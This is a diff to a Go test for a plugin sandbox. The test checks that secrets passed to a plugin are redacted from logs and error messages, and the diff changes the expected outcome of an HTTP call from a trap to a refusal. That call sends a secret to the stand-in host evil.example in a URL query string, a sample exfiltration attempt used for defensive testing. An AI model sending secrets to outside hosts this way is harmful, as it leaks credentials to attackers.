@@ -39,8 +39,8 @@ func TestSecretsReachThePluginButNotLogsOrErrors(t *testing.T) {
 		t.Errorf("error message %q", ce.Message)
 	}
 	_, err = p.Call(t.Context(), "http", []byte(`{"url":"https://evil.example/?k=`+secret+`"}`))
-	if ce := wantKind(t, err, KindTrap); strings.Contains(ce.Message, secret) || !strings.Contains(ce.Message, "[REDACTED]") {
-		t.Errorf("trap message %q", ce.Message)
+	if ce := wantKind(t, err, KindDenied); strings.Contains(ce.Message, secret) || !strings.Contains(ce.Message, "[REDACTED]") {
+		t.Errorf("refusal message %q", ce.Message)
 	}
 	// Whatever the sandbox logs for the plugin is redacted too.
 	p.logger.Warn("leak "+secret, "err", errors.New("wrapped "+secret), "s", secret, slog.Group("g", "x", secret))
